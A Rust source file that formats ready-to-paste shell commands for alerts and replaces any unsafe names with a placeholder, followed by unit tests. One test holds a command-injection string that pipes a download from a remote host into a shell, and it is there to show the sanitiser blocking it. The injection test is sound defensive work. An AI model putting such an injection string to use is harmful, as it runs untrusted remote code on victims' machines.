//! Shell commands in an alert, ready to paste.

use std::fmt::Write;

use super::layout::WIDTH;
use crate::text::Text;

/// A command, wrapped with backslashes so that a shell reads one line. A quoted word may hold line
/// breaks of its own, which get no backslash.
pub(super) fn command(indent: &str, words: &[impl AsRef<str>]) -> String {
    const CONTINUED: &str = " \\";
    let mut text = String::new();
    let mut line = indent.to_owned();
    for (i, word) in words.iter().enumerate() {
        let mut parts = word.as_ref().split('\n');
        let first = parts.next().unwrap_or_default();
        if i > 0 && line.len() + 1 + first.len() + CONTINUED.len() > WIDTH {
            let _ = writeln!(text, "{line}{CONTINUED}");
            line = format!("{indent}  {first}");
        } else {
            line.push_str(if i > 0 { " " } else { "" });
            line.push_str(first);
        }
        for part in parts {
            let _ = writeln!(text, "{line}");
            line = format!("{indent}  {part}");
        }
    }
    let _ = writeln!(text, "{line}");
    text
}

/// A name as a shell word, or `placeholder` if a shell, AWS or a mail program could take the name
/// for something else.
pub(super) fn word(name: Option<&Text>, placeholder: &str) -> String {
    match name {
        Some(name) if name.is_plain() => name.to_string(),
        _ => placeholder.to_owned(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_long_command_continues_on_the_next_line() {
        let text = command(
            "  ",
            &[
                "aws cloudtrail lookup-events",
                "--region eu-west-1",
                "--start-time 2026-01-01T00:00:00Z",
                "--max-items 50",
            ],
        );
        assert_eq!(
            text,
            "  aws cloudtrail lookup-events --region eu-west-1 \\\n    \
             --start-time 2026-01-01T00:00:00Z --max-items 50\n"
        );
    }

    #[test]
    fn a_quoted_word_goes_on_without_a_backslash() {
        let text = command("", &["aws iam put-role-policy", "--policy-document", "'{\n}'", "-x"]);
        assert_eq!(text, "aws iam put-role-policy --policy-document '{\n  }' -x\n");
    }

    #[test]
    fn a_name_that_a_shell_would_run_never_reaches_a_command() {
        let hostile = Text::new("x'; curl example.com | sh; '", 99);
        assert_eq!(word(Some(&hostile), "NAME"), "NAME");
        assert_eq!(word(Some(&Text::new("ci-deploy", 99)), "NAME"), "ci-deploy");
        assert_eq!(word(None, "NAME"), "NAME");
    }
}
